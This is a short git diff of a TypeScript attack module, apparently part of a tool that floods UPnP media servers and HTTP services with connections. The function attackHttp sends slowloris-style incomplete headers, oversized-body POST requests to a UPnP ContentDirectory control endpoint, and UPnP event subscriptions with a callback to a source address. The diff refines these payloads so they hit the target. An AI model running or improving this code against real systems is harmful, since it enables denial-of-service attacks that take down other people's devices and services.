@@ -3,7 +3,7 @@ import { connect, type Socket } from 'node:net'
 import { setTimeout as sleep } from 'node:timers/promises'
 import type { AttackPlan } from './attack-plan.ts'
 
-const CONTROL = '/upnp/control/ContentDirectory'
+const CONTROL = '/upnp/control/content-directory'
 const SOAP_ACTION = '"urn:schemas-upnp-org:service:ContentDirectory:1#Browse"'
 
 /** Runs everything at once until the time is over. Returns how many connections were made. */
@@ -19,7 +19,7 @@ export async function attackHttp(plan: AttackPlan): Promise<number> {
     { bytes: subscription(plan), count: 20, reads: true },
     { bytes: `GET / HTTP/1.1\r\nHost: ${plan.host}\r\nX-Slow: `, count: 200, reads: true },
     {
-      bytes: `POST ${CONTROL} HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999\r\n\r\n`,
+      bytes: `POST ${CONTROL} HTTP/1.1\r\nHost: ${plan.host}\r\nContent-Length: 99999999\r\n\r\n`,
       count: 20,
       reads: true,
     },
@@ -94,7 +94,7 @@ function entities(): string {
 
 function subscription(plan: AttackPlan): string {
   return [
-    'SUBSCRIBE /upnp/event/ContentDirectory HTTP/1.1',
+    'SUBSCRIBE /upnp/event/content-directory HTTP/1.1',
     `Host: ${plan.host}:${plan.httpPort}`,
     `CALLBACK: <http://${plan.sources[0]}:9/>`,
     'NT: upnp:event',
